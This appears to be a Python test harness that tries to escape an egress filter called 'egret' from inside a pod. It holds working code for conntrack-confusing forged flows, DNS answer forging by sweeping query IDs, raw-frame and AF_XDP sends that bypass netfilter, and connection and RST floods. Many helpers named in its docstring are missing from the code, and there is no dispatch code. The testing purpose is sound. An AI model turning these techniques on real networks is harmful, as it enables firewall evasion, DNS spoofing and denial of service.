"""Escape techniques a workload inside the pod might try, one per call.

usage: attack.py TECHNIQUE REMOTE PORT LOCAL [PAYLOAD]

REMOTE:PORT is a forbidden destination running servers.py (an echo
server); LOCAL is the workload's own (pod) address of the same family.
Prints one JSON line: {"technique": T, "reached": bool, "detail": "..."}.
"reached" is true only if the forbidden server's echo came back: the
attacker proved two-way contact with a host the policy forbids.
Every socket operation has a short timeout; nothing loops unbounded.

Techniques:
  udp-freebind6     IPV6_FREEBIND bound to REMOTE sends to LOCAL (a forged
                    "inbound" flow), then LOCAL sends its "reply" to REMOTE.
                    Needs no privilege.
  udp-transparent4  the same over IPv4 with IP_TRANSPARENT (CAP_NET_RAW).
  tcp-fullqueue6    IPV6_FREEBIND SYN from REMOTE to a LOCAL listener whose
                    accept queue is full (dropped, so conntrack keeps a
                    SYN_SENT entry), then connect() LOCAL -> REMOTE from the
                    same port: a reply-direction simultaneous open. No
                    privilege.
  tcp-rawsyn4       a raw SYN from REMOTE to LOCAL with a bad checksum
                    (CAP_NET_RAW), then connect() LOCAL -> REMOTE.

Other helpers (different arguments):
  attack.py nd TARGET TYPE HOPLIMIT PAYLOAD_BYTES [hbh]
        one ICMPv6 message of TYPE (135, 136, 143, ...) to TARGET from a raw
        socket (CAP_NET_RAW), padded to PAYLOAD_BYTES of ICMPv6, carrying
        the marker "egret-covert"; "hbh" puts a hop-by-hop header before
        it. Prints {"sent": true} or {"sent": false, "detail": ...}.
  attack.py hostile-tcp ADDR PORT / hostile-udp ADDR PORT
        a listener squatting on one of egret's ports: prints "ready", then
        one line "got <first bytes>" per connection or datagram it receives
        (and answers UDP with a forged DNS-looking reply).
  attack.py hold-tcp HOST PORT N [trickle]
        opens N TCP connections to HOST:PORT and keeps them open, sending
        nothing; with "trickle", sends one byte on each every 6 s and opens
        a new one for every one the server closed. Prints "ready", then
        "open K" (K the number open) at once and every 2 s. "churn" is
        trickle that opens the new ones within 20 ms of the close, not at
        the next 2 s tick: a server that counts a connection before it
        knows whose it is sees one client's refused ones pile up.
  attack.py rst-flood HOST PORT PROCS SECONDS
        PROCS processes connecting to HOST:PORT and closing each with an
        RST at once (SO_LINGER 0), for SECONDS. Prints "ready", then
        {"connects": N} at the end.
  attack.py head-flood HOST PORT N SECONDS
        keeps N TCP connections to HOST:PORT for SECONDS, each sending one
        HTTP request head naming a fresh host (h<i>.allowed.test) and
        waiting for the answer; one closed is replaced at once. Prints
        "ready", then {"opened": K, "errors": E, "max_open": M} at the end.
  attack.py hold-tcp-uids HOST PORT N FIRST_UID COUNT
        hold-tcp with trickle in COUNT child processes, child i running as
        uid FIRST_UID+i (needs CAP_SETUID): one container, many users.
        Prints "ready", then "open K" (K the total open).
  attack.py rawframe IFACE DSTMAC SRC DST PORT
        one Ethernet frame carrying a UDP datagram SRC -> DST:PORT with the
        marker as payload, from an AF_PACKET socket (CAP_NET_RAW): no IP
        output hook sees it. Prints {"sent": true} or {"sent": false, ...}.
  attack.py source-route DST PORT FIRSTHOP
        one UDP datagram (the marker) to DST:PORT source-routed through
        FIRSTHOP: an IPv4 loose source route option (IP_OPTIONS, CAP_NET_RAW)
        or an IPv6 segment routing header (IPV6_RTHDR), by DST's family.
  attack.py bindtodev DEV DST PORT
        one UDP datagram (the marker) to DST (a loopback address) from a
        socket bound to DEV (SO_BINDTODEVICE, no privilege): the route goes
        out DEV although the destination is "local".
  attack.py mcloop GROUP PORT IFACE
        joins GROUP on IFACE (a multicast group, or an IPv4 broadcast
        address: no join needed), sends one datagram to GROUP:PORT with
        IP_MULTICAST_LOOP (the default) and reads the kernel's looped-back
        copy with SO_RCVMARK (no privilege): prints {"mark": N} (N = -1
        when no mark came, -2 when no copy came back).
  attack.py rawframe IFACE DSTMAC SRC DST PORT MARK
        as rawframe, with SO_MARK MARK on the packet socket (CAP_NET_RAW).
  attack.py xsk IFACE DSTMAC SRC DST PORT
        the rawframe frame (IPv4) from an AF_XDP socket bound in copy mode
        to each queue of IFACE in turn (CAP_NET_RAW): an XSK transmits to
        the driver directly, past every netfilter hook. Prints {"sent":
        true, "queue": Q} once the kernel reports the frame transmitted, or
        {"sent": false, "detail": ...} with every queue's error.
  attack.py dns-forge UPSTREAM PORT NAME FORGED SECONDS
        forged DNS answers (NAME A FORGED) "from" the loopback upstream
        UPSTREAM:PORT (IPv4): binds another 127/8 address at PORT (no
        privilege), finds egret's UDP sockets connected to the upstream in
        /proc/net/udp and sweeps every DNS ID at each with IP_PKTINFO
        setting the source to UPSTREAM, for at most SECONDS. Prints
        "ready", then once a second {"targets": N, "sent": M} (sockets
        seen so far, datagrams sent).
  attack.py rcvmark ADDR PORT
        a UDP socket with SO_RCVMARK: prints "ready", then one JSON line
        {"mark": N} for the first datagram (N = -1 when no mark came).
  attack.py acceptmark ADDR PORT
        a TCP listener: prints "ready", then one JSON line {"mark": N}, the
        SO_MARK of the first accepted connection (no privilege). With
        net.ipv4.tcp_fwmark_accept=1 that is the mark of the client's SYN.
  attack.py rawproto DST PROTO
        one IP datagram of protocol PROTO (GRE 47, IPIP 4, SCTP 132, ...)
        carrying the marker to DST from a raw socket (CAP_NET_RAW).
  attack.py udplite DST PORT
        one UDP-Lite datagram (protocol 136, no privilege) with the marker.
  attack.py frag SRC DST PORT PARTS
        a UDP datagram with the marker to DST:PORT cut by hand into IPv4
        fragments (IP_HDRINCL) or IPv6 fragment headers (IPPROTO_RAW),
        CAP_NET_RAW; PARTS says which are sent: "all", "first" or "later"
        (the fragment at offset 8 alone, whose payload is the marker).
  attack.py tfo DST PORT
        TCP Fast Open (MSG_FASTOPEN, no privilege): the first bytes (an HTTP
        request naming blocked.test on 80/443, a line elsewhere) carried in
        the SYN itself; prints the technique verdict (reached: "hello from"
        or "echo:" came back).
  attack.py icmp-error DST INNER_SRC INNER_SPORT INNER_DST INNER_DPORT
        an ICMP (v4) or ICMPv6 port-unreachable to DST whose quoted packet
        is UDP INNER_SRC:INNER_SPORT -> INNER_DST:INNER_DPORT followed by the
        marker: an "error" that conntrack might take for RELATED to a flow
        (CAP_NET_RAW).
  attack.py exthdr DST PORT tcp|udp hbh|dst|both
        a TCP connection (or UDP datagram) to DST:PORT (IPv6) with a
        hop-by-hop and/or destination options header (IPV6_HOPOPTS,
        IPV6_DSTOPTS: CAP_NET_RAW); prints the technique verdict.
  attack.py log-flood HOST PORT SECONDS
        blocked UDP datagrams to HOST:PORT as fast as one socket sends
        them, for SECONDS; prints {"sent": N} at the end.
  attack.py owner-fill HOST PORT FIRST_UID COUNT
        one blocked UDP datagram to HOST:PORT from a socket owned by each
        of COUNT uids from FIRST_UID (seteuid around socket(): CAP_SETUID),
        so each uid becomes an element of a per-owner set; prints
        {"sent": N}.
  attack.py owners-flood HOST PORT FIRST_UID COUNT SECONDS
        blocked UDP datagrams to HOST:PORT round-robin from COUNT sockets,
        each owned by its own uid from FIRST_UID (CAP_SETUID), for
        SECONDS; prints {"sent": N}.
  attack.py dns-flood SERVER PORT ZONE SECONDS
        A queries for random names under ZONE to SERVER:PORT (UDP), as
        fast as one socket sends them, for SECONDS (answers are drained
        and counted); prints "ready", then {"sent": N, "answers": M}.
  attack.py dns-flood SERVER PORT ZONE SECONDS COUNT
        as dns-flood, round-robin from COUNT sockets (COUNT source ports:
        an owner lookup each, where one socket's is cached); COUNT 0: a
        fresh socket for every query, closed once sent.
  attack.py odd-packet SRC DST KIND
        one strangely shaped packet to DST from a raw socket (CAP_NET_RAW),
        for the parsers behind the blocked-packet log: "v4-options" (IHL 15,
        40 bytes of options with a bogus timestamp option), "v4-short-tcp"
        (protocol TCP, 4 bytes of TCP header), "v4-tcp-offset" (a TCP data
        offset of 15 words in a 20-byte header), "v6-chain" (30 chained
        destination options headers, then UDP), "v6-bad-len" (an options
        header whose length runs past the packet), "v6-no-next" (next
        header 59 right away). Prints {"sent": ...}.
  attack.py capture-http ADDR PORT
        a squatter on an HTTP port egret talks to (the dashboard's): prints
        "ready", then each request's head as one JSON line {"head": "..."}
        and answers 201 with an empty created list, as the dashboard would.
  attack.py framing-server ADDR PORT
        (the upstream side) a keep-alive HTTP/1.1 server as strict about
        framing as RFC 9112 but lenient in the common way about a value it
        cannot read: Content-Length counts only when it is digits (after
        SP/HTAB), Transfer-Encoding only when it is exactly "chunked";
        anything else means no body. Answers each request with
        "hello for <Host>". Prints "ready".
  attack.py switch-server ADDR PORT
        (the upstream side) an HTTP server that answers every request head
        with "101 Switching Protocols" (Upgrade: h2c) and from then on
        echoes each chunk it receives as "echo:<chunk>": a server that
        takes the connection out of HTTP/1.1. Prints "ready".
"""
import json
import os
import socket
import struct
import sys
import time

IPV6_FREEBIND = 78
IP_TRANSPARENT = 19
TIMEOUT = 1.5


def out(technique, reached, detail):
    print(json.dumps({"technique": technique, "reached": reached, "detail": detail}), flush=True)


def free_port(fam, kind, addr):
    s = socket.socket(fam, kind)
    s.bind((addr, 0))
    p = s.getsockname()[1]
    s.close()
    return p


def echo_back(s, payload):
    """Sends payload on a connected socket and waits for the echo."""
    try:
        s.settimeout(TIMEOUT)
        s.send(payload)
        data = s.recv(200)
        return data.startswith(b"echo:"), "got %r" % data[:40]
    except OSError as e:
        return False, "%s: %s" % (type(e).__name__, e)


def udp_forged(technique, fam, opt_level, opt, remote, port, local, payload):
    lport = free_port(fam, socket.SOCK_DGRAM, local)
    forger = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        forger.setsockopt(opt_level, opt, 1)
        forger.bind((remote, port))
        forger.sendto(b"hello", (local, lport))
    except OSError as e:
        return out(technique, False, "forging failed: %s: %s" % (type(e).__name__, e))
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.bind((local, lport))
    try:
        s.connect((remote, port))
    except OSError as e:
        return out(technique, False, "connect: %s" % e)
    reached, detail = echo_back(s, payload)
    out(technique, reached, detail)


def tcp_fullqueue6(remote, port, local, payload):
    technique = "tcp-fullqueue6"
    fam = socket.AF_INET6
    lst = socket.socket(fam, socket.SOCK_STREAM)
    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    lst.bind((local, 0))
    lport = lst.getsockname()[1]
    lst.listen(0)
    # Fill the accept queue (backlog 0 holds one connection) and never
    # accept, so the forged SYN is dropped and its conntrack entry stays.
    fillers = []
    for _ in range(2):
        f = socket.socket(fam, socket.SOCK_STREAM)
        f.setblocking(False)
        try:
            f.connect((local, lport))
        except BlockingIOError:
            pass
        fillers.append(f)
    time.sleep(0.2)
    forger = socket.socket(fam, socket.SOCK_STREAM)
    forger.setblocking(False)
    try:
        forger.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        forger.bind((remote, port))
        forger.connect((local, lport))
    except BlockingIOError:
        pass
    except OSError as e:
        return out(technique, False, "forging failed: %s: %s" % (type(e).__name__, e))
    time.sleep(0.2)
    reply_open(technique, fam, (local, lport), (remote, port), payload)


def reply_open(technique, fam, local, remote, payload):
    """connect() from the forged flow's local end to its remote one: what
    conntrack would take for the flow's reply (a simultaneous open)."""
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try:
        s.bind(local)
        s.settimeout(TIMEOUT)
        s.connect(remote)
    except OSError as e:
        return out(technique, False, "connect: %s: %s" % (type(e).__name__, e))
    reached, detail = echo_back(s, payload + b"\n")
    out(technique, reached, detail)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def tcp_rawsyn4(remote, port, local, payload):
    technique = "tcp-rawsyn4"
    lport = free_port(socket.AF_INET, socket.SOCK_STREAM, local)
    src, dst = socket.inet_aton(remote), socket.inet_aton(local)
    tcp = struct.pack("!HHIIBBHHH", port, lport, 12345, 0, 5 << 4, 0x02, 65535, 0, 0)
    good = checksum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", good ^ 0x5A5A) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, src, dst)
    try:
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        raw.sendto(ip + tcp, (local, 0))
    except OSError as e:
        return out(technique, False, "forging failed: %s: %s" % (type(e).__name__, e))
    time.sleep(0.1)
    reply_open(technique, socket.AF_INET, (local, lport), (remote, port), payload)


MARKER = b"egret-covert"


def nd(target, icmp_type, hoplimit, size, hbh):
    try:
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, hoplimit)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, hoplimit)
        if hbh:
            # Hop-by-hop header: next header (filled in by the kernel),
            # length 0 (8 bytes), a PadN option of 4 bytes after a router
            # alert (MLD's own shape).
            s.setsockopt(socket.IPPROTO_IPV6, 54, bytes([0, 0, 5, 2, 0, 0, 1, 0]))
        body = MARKER + b"\0" * max(0, size - 4 - len(MARKER))
        # type, code, checksum (the kernel computes it), then the body.
        msg = struct.pack("!BBH", icmp_type, 0, 0) + body
        s.sendto(msg, (target, 0))
        print(json.dumps({"sent": True}), flush=True)
    except OSError as e:
        print(json.dumps({"sent": False, "detail": "%s: %s" % (type(e).__name__, e)}), flush=True)


def hostile(kind, addr, port):
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    if kind == "tcp":
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((addr, port))
        s.listen(64)
        print("ready", flush=True)
        while True:
            c, _ = s.accept()
            c.settimeout(1)
            try:
                data = c.recv(200)
                c.sendall(b"HTTP/1.0 200 OK\r\ncontent-length: 7\r\n\r\nhostile")
            except OSError:
                data = b""
            print("got %r" % data[:60], flush=True)
            c.close()
    else:
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.bind((addr, port))
        print("ready", flush=True)
        while True:
            data, peer = s.recvfrom(2048)
            print("got %r" % data[:60], flush=True)
            if len(data) >= 12:
                # Same ID, QR set, NOERROR, the question echoed, no answer.
                s.sendto(data[:2] + b"\x81\x80" + data[4:], peer)


def dns_name(name):
    out = b""
    for label in name.strip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def dns_multi(server, names):
    """One UDP query with a question per name (QDCOUNT > 1, type A):
    prints the rcode, the answer count and the answer's A addresses."""
    import struct
    q = struct.pack(">HHHHHH", 0x5151, 0x0100, len(names), 0, 0, 0)
    for n in names:
        q += dns_name(n) + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(q, (server, 53))
    try:
        r = s.recv(4096)
    except socket.timeout:
        print(json.dumps({"rcode": None}))
        return
    _, flags, qd, an, _, _ = struct.unpack(">HHHHHH", r[:12])
    addrs = []
    i = 12
    def skip_name(i):
        while True:
            l = r[i]
            if l == 0:
                return i + 1
            if l & 0xC0 == 0xC0:
                return i + 2
            i += l + 1
    for _ in range(qd):
        i = skip_name(i) + 4
    for _ in range(an):
        i = skip_name(i)
        t, _, _, rdlen = struct.unpack(">HHIH", r[i:i + 10])
        i += 10
        if t == 1 and rdlen == 4:
            addrs.append(socket.inet_ntoa(r[i:i + 4]))
        i += rdlen
    print(json.dumps({"rcode": flags & 0xF, "qd": qd, "an": an, "addrs": addrs}))


def upstream_sockets(upstream, port):
    """(local ip, local port) of every UDP socket in this namespace
    connected to upstream:port, read from /proc/net/udp (world-readable)."""
    want = "%08X:%04X" % (struct.unpack("<I", socket.inet_aton(upstream))[0], port)
    found = []
    with open("/proc/net/udp") as f:
        for line in f.readlines()[1:]:
            cols = line.split()
            if cols[2] != want:
                continue
            hexip, hexport = cols[1].split(":")
            ip = socket.inet_ntoa(struct.pack("<I", int(hexip, 16)))
            found.append((ip, int(hexport, 16)))
    return found


def dns_forge(upstream, port, name, forged, seconds):
    IP_PKTINFO = 8
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    octets = upstream.split(".")
    decoy = "127.0.0.%d" % (12 if octets[3] != "12" else 13)
    s.bind((decoy, port))
    s.setblocking(False)
    # struct in_pktinfo { int ifindex; in_addr spec_dst; in_addr addr; }
    pktinfo = struct.pack("=i4s4s", 0, socket.inet_aton(upstream), b"\0" * 4)
    anc = [(socket.IPPROTO_IP, IP_PKTINFO, pktinfo)]
    q = dns_name(name) + b"\x00\x01\x00\x01"
    answer = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04" + socket.inet_aton(forged)
    body = b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q + answer
    packets = [struct.pack(">H", i) + body for i in range(65536)]
    print("ready", flush=True)
    end = time.monotonic() + seconds
    seen, sent, last = set(), 0, time.monotonic()
    while time.monotonic() < end:
        targets = upstream_sockets(upstream, port)
        seen.update(targets)
        if not targets:
            time.sleep(0.005)
        for t in targets:
            for pkt in packets:
                try:
                    s.sendmsg([pkt], anc, 0, t)
                    sent += 1
                except BlockingIOError:
                    pass
                except OSError:
                    break
        if time.monotonic() - last >= 1:
            last = time.monotonic()
            print(json.dumps({"targets": len(seen), "sent": sent}), flush=True)
    print(json.dumps({"targets": len(seen), "sent": sent}), flush=True)


def rcvmark(addr, port):
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, 75, 1)  # SO_RCVMARK
    s.bind((addr, port))
    print("ready", flush=True)
    _, anc, _, _ = s.recvmsg(2048, socket.CMSG_SPACE(4))
    mark = -1
    for level, kind, data in anc:
        if level == socket.SOL_SOCKET and kind == 36:  # the cmsg is SO_MARK
            mark = struct.unpack("=I", data[:4])[0]
    print(json.dumps({"mark": mark}), flush=True)


def acceptmark(addr, port):
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, port))
    s.listen(8)
    print("ready", flush=True)
    c, _ = s.accept()
    mark = c.getsockopt(socket.SOL_SOCKET, 36)  # SO_MARK
    print(json.dumps({"mark": mark}), flush=True)
    c.close()


def mcloop(group, port, iface):
    v6 = ":" in group
    fam = socket.AF_INET6 if v6 else socket.AF_INET
    index = socket.if_nametoindex(iface)
    r = socket.socket(fam, socket.SOCK_DGRAM)
    r.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    r.setsockopt(socket.SOL_SOCKET, 75, 1)  # SO_RCVMARK
    r.settimeout(TIMEOUT)
    s = socket.socket(fam, socket.SOCK_DGRAM)
    if v6:
        r.bind(("::", port))
        r.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                     socket.inet_pton(fam, group) + struct.pack("@I", index))
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
        to = (group, port, 0, index)
    else:
        r.bind(("0.0.0.0", port))
        r.setsockopt(socket.SOL_SOCKET, 25, iface.encode())  # SO_BINDTODEVICE
        first = int(group.split(".")[0])
        if 224 <= first < 240:
            # struct ip_mreqn: group, local address (any), interface index.
            mreqn = socket.inet_aton(group) + socket.inet_aton("0.0.0.0") + struct.pack("@i", index)
            r.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreqn)
            s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, mreqn)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.setsockopt(socket.SOL_SOCKET, 25, iface.encode())
        to = (group, port)
    mark = -2
    try:
        s.sendto(MARKER, to)
        _, anc, _, _ = r.recvmsg(2048, socket.CMSG_SPACE(4))
        mark = -1
        for level, kind, data in anc:
            if level == socket.SOL_SOCKET and kind == 36:
                mark = struct.unpack("=I", data[:4])[0]
    except OSError:
        pass
    print(json.dumps({"mark": mark}), flush=True)


def hold_tcp(host, port, n, trickle, say=None, churn=False):
    say = say or (lambda line: print(line, flush=True))
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    held = []

    def top_up():
        for _ in range(n - len(held)):
            s = socket.socket(fam, socket.SOCK_STREAM)
            s.settimeout(2)
            try:
                s.connect((host, port))
                s.setblocking(False)
                held.append(s)
            except OSError:
                s.close()

    def alive(s):
        try:
            return s.recv(1, socket.MSG_PEEK) != b""
        except BlockingIOError:
            return True
        except OSError:
            return False

    top_up()
    say("ready")
    say("open %d" % len(held))
    last_byte = last_say = time.monotonic()
    tick = 0.02 if churn else 2
    for _ in range(int(7200 / tick)):  # bounded: at most two hours
        time.sleep(tick)
        held[:] = [s for s in held if alive(s) or s.close()]
        if trickle:
            if time.monotonic() - last_byte >= 6:
                last_byte = time.monotonic()
                for s in held:
                    try:
                        s.send(b"\0")
                    except OSError:
                        pass
            top_up()
        if time.monotonic() - last_say >= 2:
            last_say = time.monotonic()
            say("open %d" % len(held))


def head_flood(host, port, n, seconds):
    """N connections, each one head with a fresh Host name, replaced as
    they close, for `seconds`."""
    import resource
    import select
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    held = {}
    count = {"opened": 0, "errors": 0, "max_open": 0}
    seq = [0]

    def one():
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.connect((host, port))
            seq[0] += 1
            s.sendall(b"GET / HTTP/1.1\r\nHost: h%d.allowed.test\r\n\r\n" % seq[0])
            s.setblocking(False)
            held[s.fileno()] = s
            count["opened"] += 1
        except OSError:
            s.close()
            count["errors"] += 1

    print("ready", flush=True)
    end = time.monotonic() + seconds
    p = select.poll()
    while time.monotonic() < end:
        for _ in range(min(n - len(held), 200)):
            one()
            if time.monotonic() >= end:
                break
        count["max_open"] = max(count["max_open"], len(held))
        p = select.poll()
        for fd in held:
            p.register(fd, select.POLLIN | select.POLLHUP | select.POLLERR)
        for fd, _ in p.poll(50):
            s = held.pop(fd, None)
            if s is not None:
                s.close()
    for s in held.values():
        s.close()
    print(json.dumps(count), flush=True)


def hold_tcp_uids(host, port, n, first_uid, count):
    """hold_tcp with trickle in `count` children, child i as uid first_uid+i
    (CAP_SETUID, a default container capability): one container, many
    users. Prints "ready" once every child is, then "open K" (the sum)."""
    import ctypes
    r, w = os.pipe()
    for i in range(count):
        if os.fork() == 0:
            os.close(r)
            ctypes.CDLL(None).prctl(1, 9)  # PR_SET_PDEATHSIG, SIGKILL
            uid = first_uid + i
            os.setgroups([])
            os.setgid(uid)
            os.setuid(uid)
            hold_tcp(host, port, n, True, lambda line: os.write(w, b"%d %s\n" % (i, line.encode())))
            os._exit(0)
    os.close(w)
    opened, ready = {}, set()
    announced = False
    with os.fdopen(r) as lines:
        for line in lines:  # ends when every child has exited
            i, what = line.split(" ", 1)
            if what.strip() == "ready":
                ready.add(i)
            else:
                opened[i] = int(what.split()[1])
            if len(ready) == count and len(opened) == count:
                if not announced:
                    print("ready", flush=True)
                    announced = True
                print("open %d" % sum(opened.values()), flush=True)


def rst_flood(host, port, procs, seconds):
    """`procs` children, each for at most `seconds`: connect to HOST:PORT
    and close at once with SO_LINGER 0 (an RST right after the
    handshake), as fast as it goes: the server accepts a connection whose
    client socket is gone, so an owner lookup made after the accept finds
    nothing. Prints "ready", then {"connects": N} (the sum) at the end."""
    import ctypes
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    linger = struct.pack("ii", 1, 0)
    r, w = os.pipe()
    kids = []
    for _ in range(procs):
        pid = os.fork()
        if pid == 0:
            os.close(r)
            ctypes.CDLL(None).prctl(1, 9)  # PR_SET_PDEATHSIG, SIGKILL
            n, end = 0, time.monotonic() + seconds
            while time.monotonic() < end:
                s = socket.socket(fam, socket.SOCK_STREAM)
                s.settimeout(1)
                try:
                    s.connect((host, port))
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
                    n += 1
                except OSError:
                    pass
                s.close()
            os.write(w, b"%d\n" % n)
            os._exit(0)
        kids.append(pid)
    os.close(w)
    print("ready", flush=True)
    total = 0
    with os.fdopen(r) as lines:
        for line in lines:
            total += int(line)
    for pid in kids:
        os.waitpid(pid, 0)
    print(json.dumps({"connects": total}), flush=True)


def rawframe(iface, dstmac, src, dst, port, mark=0):
    v6 = ":" in dst
    body = MARKER
    udp = struct.pack("!HHHH", 4242, port, 8 + len(body), 0) + body
    if v6:
        s6, d6 = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
        pseudo = s6 + d6 + struct.pack("!IxxxB", len(udp), 17)
        udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
        ip = struct.pack("!IHBB16s16s", 6 << 28, len(udp), 17, 64, s6, d6)
        ethertype = b"\x86\xdd"
    else:
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        ethertype = b"\x08\x00"
    own = open("/sys/class/net/%s/address" % iface).read().strip()
    frame = bytes.fromhex(dstmac.replace(":", "")) + bytes.fromhex(own.replace(":", "")) + ethertype + ip + udp
    try:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        if mark:
            s.setsockopt(socket.SOL_SOCKET, 36, struct.pack("=I", mark))  # SO_MARK
        s.bind((iface, 0))
        s.send(frame)
        print(json.dumps({"sent": True}), flush=True)
    except OSError as e:
        print(json.dumps({"sent": False, "detail": "%s: %s" % (type(e).__name__, e)}), flush=True)


def ipv4_udp_frame(iface, dstmac, src, dst, port):
    body = MARKER
    udp = struct.pack("!HHHH", 4242, port, 8 + len(body), 0) + body
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    own = open("/sys/class/net/%s/address" % iface).read().strip()
    return bytes.fromhex(dstmac.replace(":", "")) + bytes.fromhex(own.replace(":", "")) + b"\x08\x00" + ip + udp


def xsk_send(iface, queue, frame):
    """One frame from an XSK on `queue`: True once the completion ring
    holds it (the driver took it). Raises OSError on the failing step."""
    import ctypes
    import mmap
    AF_XDP, SOL_XDP = 44, 283
    XDP_MMAP_OFFSETS, XDP_TX_RING, XDP_UMEM_REG, XDP_UMEM_FILL_RING, XDP_UMEM_COMPLETION_RING = 1, 3, 4, 5, 6
    XDP_COPY = 1 << 1
    libc = ctypes.CDLL(None, use_errno=True)
    libc.setsockopt.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_void_p, ctypes.c_uint]
    libc.getsockopt.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
    libc.bind.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint]
    libc.sendto.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_void_p, ctypes.c_uint]

    def chk(rc, what):
        if rc < 0:
            e = ctypes.get_errno()
            raise OSError(e, "%s: %s" % (what, os.strerror(e)))

    s = socket.socket(AF_XDP, socket.SOCK_RAW, 0)
    fd = s.fileno()
    frames, size = 4, 4096
    umem = mmap.mmap(-1, frames * size)
    reg = (ctypes.c_uint8 * 32)()
    struct.pack_into("=QQIIII", reg, 0, ctypes.addressof(ctypes.c_char.from_buffer(umem)), frames * size, size, 0, 0, 0)
    chk(libc.setsockopt(fd, SOL_XDP, XDP_UMEM_REG, ctypes.addressof(reg), 32), "umem")
    for opt in (XDP_UMEM_FILL_RING, XDP_UMEM_COMPLETION_RING, XDP_TX_RING):
        n = ctypes.c_int(frames)
        chk(libc.setsockopt(fd, SOL_XDP, opt, ctypes.addressof(n), 4), "ring %d" % opt)
    off = (ctypes.c_uint64 * 16)()
    ln = ctypes.c_uint(ctypes.sizeof(off))
    chk(libc.getsockopt(fd, SOL_XDP, XDP_MMAP_OFFSETS, ctypes.addressof(off), ctypes.addressof(ln)), "offsets")
    # struct xdp_mmap_offsets: rx, tx, fill, completion; each producer,
    # consumer, desc, flags.
    tx_prod, tx_desc, cq_prod, cq_desc = off[4], off[6], off[12], off[14]
    rw = mmap.PROT_READ | mmap.PROT_WRITE
    tx = mmap.mmap(fd, tx_desc + frames * 16, mmap.MAP_SHARED, rw, offset=0x80000000)
    cq = mmap.mmap(fd, cq_desc + frames * 8, mmap.MAP_SHARED, rw, offset=0x180000000)
    sxdp = ctypes.create_string_buffer(struct.pack("=HHIII", AF_XDP, XDP_COPY, socket.if_nametoindex(iface), queue, 0))
    chk(libc.bind(fd, sxdp, 16), "bind queue %d" % queue)
    umem[0:len(frame)] = frame
    struct.pack_into("=QII", tx, tx_desc, 0, len(frame), 0)
    struct.pack_into("=I", tx, tx_prod, 1)
    libc.sendto(fd, None, 0, socket.MSG_DONTWAIT, None, 0)
    for _ in range(20):  # bounded: 1 s
        if struct.unpack_from("=I", cq, cq_prod)[0] >= 1:
            return True
        time.sleep(0.05)
    return False


